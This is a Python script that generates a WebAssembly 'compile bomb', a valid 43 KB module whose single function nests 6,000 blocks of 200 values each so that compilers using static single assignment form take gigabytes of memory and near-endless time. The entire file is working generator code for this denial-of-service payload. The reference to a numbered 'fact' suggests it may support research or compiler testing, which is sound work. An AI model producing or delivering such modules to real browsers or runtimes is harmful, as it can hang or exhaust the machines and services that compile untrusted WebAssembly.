#!/usr/bin/env python3
"""Write a compile bomb to stdout: 43 KB of WebAssembly that take a compiler gigabytes and practically forever.

The module is valid. Its only function nests 6 000 blocks, each taking and giving 200 values, so that a compiler in
static single assignment form has 6 000 × 200 merge points to resolve (fact F39).
"""

from __future__ import annotations

import sys

BLOCKS = 6000
VALUES = 200
I32 = 0x7F


def leb(value: int) -> bytes:
    """Encode an unsigned LEB128 number."""
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def section(number: int, *items: bytes) -> bytes:
    """Return a section that is a vector of ``items``."""
    body = leb(len(items)) + b"".join(items)
    return bytes([number]) + leb(len(body)) + body


def function_body(blocks: int, values: int) -> bytes:
    """Return the code: constants, then every block around a conditional branch out of it."""
    code = bytearray(b"\x00")  # no locals
    code += b"\x41\x00" * values  # i32.const 0
    code += b"\x02\x01" * blocks  # block (type 1)
    code += b"\x20\x00\x0d\x00\x0b" * blocks  # local.get 0; br_if 0; end
    code += b"\x1a" * values + b"\x0b"  # drop; end
    return leb(len(code)) + bytes(code)


def module(blocks: int = BLOCKS, values: int = VALUES) -> bytes:
    """Return the whole module, which exports the function as ``run``."""
    many = leb(values) + bytes([I32]) * values
    return b"\0asm\x01\0\0\0" + b"".join(
        (
            section(1, b"\x60\x01\x7f\x00", b"\x60" + many + many),
            section(3, b"\x00"),
            section(7, b"\x03run\x00\x00"),
            section(10, function_body(blocks, values)),
        )
    )


if __name__ == "__main__":
    sys.stdout.buffer.write(module())
